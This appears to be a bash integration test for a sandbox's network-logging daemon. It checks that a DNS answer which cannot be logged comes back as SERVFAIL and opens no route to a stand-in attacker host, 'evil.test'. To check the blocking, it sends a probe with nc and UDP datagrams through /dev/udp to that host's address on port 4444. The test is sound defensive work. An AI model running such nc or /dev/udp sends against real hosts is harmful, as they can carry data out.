#!/bin/bash
# 44b-dns-log-full: a DNS answer that could not be logged is not given.
# The room for a query's row is looked at when it arrives, but its answer
# comes from upstream later, and the row is queued after the answer is
# sent; meanwhile the log's queue can fill (here: the database locked by
# another process, the writer stalled, and the sandbox's own denied
# flows). Then the answer must be SERVFAIL and bind nothing: the name's
# address stays closed to the sandbox, and the lost row is counted.
. "$(dirname "$0")/../lib/testbed.sh"
tb_init dns-log-full
tb_internet_up || { tb_fail "test bed up"; tb_done; }
locker=
stopped=
cleanup() {
	[ -n "$stopped" ] && kill -CONT "$stopped" 2>/dev/null
	[ -n "$locker" ] && kill "$locker" 2>/dev/null
	tb_down
}
trap cleanup EXIT INT TERM HUP
tb_sluiced_start --log-queue 64 || { tb_fail "sluiced up"; tb_done; }

cat > "$TB_DIR/policy.json" <<JSON
{"network": {"allowedDomains": ["evil.test:4444"]}}
JSON
tb_check "sandbox add" tb_sandbox_add a "$TB_DIR/policy.json"
db=$TB_DIR/flows.db
tb_wait_rows "SELECT count(*) FROM sandboxes" 1 >/dev/null

# 1. the upstream is slow (stopped); the question goes out while the log
#    is healthy
stopped=$(cat "$TB_DIR/dnsmasq.pid")
kill -STOP "$stopped"
tb_in a dig +tries=1 +time=6 evil.test A > "$TB_DIR/dig.out" 2>&1 &
dig=$!
sleep 0.3
# 2. the log fills while it is upstream: the database is locked, and the
#    sandbox's denied datagrams (a row each) fill the 64 rows
"$TB_PY" - "$db" "$TB_DIR/locked" <<'PY' &
import sqlite3, sys, time
c = sqlite3.connect(sys.argv[1], timeout=5, isolation_level=None)
c.execute("BEGIN EXCLUSIVE")
open(sys.argv[2], "w").close()
time.sleep(6)
c.execute("COMMIT")
PY
locker=$!
for i in $(seq 50); do [ -e "$TB_DIR/locked" ] && break; sleep 0.05; done
tb_check "the database is locked" [ -e "$TB_DIR/locked" ]
tb_in a bash -c "for p in \$(seq 2000 2199); do echo x > /dev/udp/$TB_ADDR_ATK/\$p; done" 2>/dev/null
tb_check "the log's queue is full" [ "$(tb_status store.depth)" -ge 60 ]
# 3. the upstream answers
kill -CONT "$stopped"
stopped=
wait $dig
tb_assert_match "$(cat "$TB_DIR/dig.out")" "status: SERVFAIL" "the sandbox got SERVFAIL, not the answer"
tb_check "the upstream was asked (the answer existed)" \
    [ "$(tb_upstream_queries '^evil\.test$')" -ge 1 ]
tb_assert_eq "$(grep -c "$TB_ADDR_ATK" "$TB_DIR/dig.out")" 0 "no address reached the sandbox"

# 4. once the log is back, the name's address is still closed: nothing
#    was bound
wait $locker
locker=
for i in $(seq 50); do [ "$(tb_status store.writable)" = True ] && break; sleep 0.1; done
tb_assert_eq "$(tb_status store.writable)" True "the log is writable again"
out=$(echo probe | tb_in a nc -w 2 "$TB_ADDR_ATK" 4444 2>/dev/null)
tb_assert_eq "$out" "" "no connection to evil.test's address"
sleep 1
tb_assert_eq "$(tb_attacker_conn_count port=4444)" 0 "the attacker host accepted no connection"
tb_assert_eq "$(tb_sql "SELECT count(*) FROM flows WHERE dst_port = 4444 AND verdict = 'deny'")" 1 \
    "the attempt was denied, with a row"
tb_check "the lost answer's row is counted" \
    [ "$(tb_sql "SELECT coalesce(sum(count), 0) FROM lost_records WHERE kind = 'dns' AND reason = 'queue_full'")" -ge 1 ]
tb_assert_eq "$(tb_sql "SELECT count(*) FROM dns_queries WHERE qname = 'evil.test' AND verdict = 'allow'")" 0 \
    "no allowed row for an answer that was not given"
tb_done
